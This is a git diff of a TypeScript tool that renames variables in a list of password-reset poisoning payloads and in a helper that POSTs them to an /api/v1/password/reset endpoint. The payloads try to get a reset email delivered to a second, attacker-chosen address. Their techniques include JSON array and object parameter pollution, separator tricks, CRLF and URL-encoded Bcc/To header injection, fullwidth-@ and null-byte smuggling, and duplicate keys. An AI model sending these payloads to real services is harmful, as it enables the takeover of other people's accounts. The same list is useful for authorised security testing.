@@ -23,20 +23,20 @@ const lies: Record<string, string | string[]>[] = [
 ];
 
 /** Ways to have the mail sent to a second address beside, or instead of, the stored one. */
-const tricks: ((stored: string, stray: string) => string)[] = [
-  (stored, stray) => `{"Email":["${stored}","${stray}"]}`,
-  (stored, stray) => `{"Email":{"0":"${stored}","1":"${stray}"}}`,
-  (stored, stray) => `{"Email":"${stored},${stray}"}`,
-  (stored, stray) => `{"Email":"${stored};${stray}"}`,
-  (stored, stray) => `{"Email":"${stored} ${stray}"}`,
-  (stored, stray) => `{"Email":"${stored}\\r\\nBcc: ${stray}"}`,
-  (stored, stray) => `{"Email":"${stored}\\nTo: ${stray}"}`,
-  (stored, stray) => `{"Email":"${stored}%0d%0aBcc: ${stray}"}`,
-  (stored, stray) => `{"Email":"\\"${stored}\\" <${stray}>"}`,
-  (stored, stray) => `{"Email":"<${stray}>,${stored}"}`,
-  (stored, stray) => `{"Email":"${stray}\uff20${stored}"}`,
-  (stored, stray) => `{"Email":"${stored}\\u0000${stray}"}`,
-  (stored, stray) => `{"Email":"${stored}","Email2":"${stray}"}`,
+const tricks: ((own: string, stray: string) => string)[] = [
+  (own, stray) => `{"Email":["${own}","${stray}"]}`,
+  (own, stray) => `{"Email":{"0":"${own}","1":"${stray}"}}`,
+  (own, stray) => `{"Email":"${own},${stray}"}`,
+  (own, stray) => `{"Email":"${own};${stray}"}`,
+  (own, stray) => `{"Email":"${own} ${stray}"}`,
+  (own, stray) => `{"Email":"${own}\\r\\nBcc: ${stray}"}`,
+  (own, stray) => `{"Email":"${own}\\nTo: ${stray}"}`,
+  (own, stray) => `{"Email":"${own}%0d%0aBcc: ${stray}"}`,
+  (own, stray) => `{"Email":"\\"${own}\\" <${stray}>"}`,
+  (own, stray) => `{"Email":"<${stray}>,${own}"}`,
+  (own, stray) => `{"Email":"${stray}\uff20${own}"}`,
+  (own, stray) => `{"Email":"${own}\\u0000${stray}"}`,
+  (own, stray) => `{"Email":"${own}","Email2":"${stray}"}`,
   (stored, stray) => `{"Email":"${stray}","Email":"${stored}"}`,
   (stored, stray) => `{"Email":"${stored}","Email":"${stray}"}`,
   (stored, stray) => `{"Email":"${stored}","to":"${stray}","Bcc":"${stray}"}`,
@@ -83,12 +83,12 @@ export async function poisonRequests({ urls, publicUrl }: ResetPlace): Promise<O
 function post(url: string, body: string, headers: Record<string, string | string[]>) {
   return new Promise<number>((resolve, reject) => {
     const type = { "content-type": "application/json", "content-length": String(Buffer.byteLength(body)) };
-    const sent = request(
+    const message = request(
       `${url}/api/v1/password/reset`,
       { method: "POST", headers: { ...type, ...headers } },
       (response) => response.resume().once("close", () => resolve(response.statusCode ?? 0)),
     );
-    sent.once("error", reject).end(body);
+    message.once("error", reject).end(body);
   });
 }
 
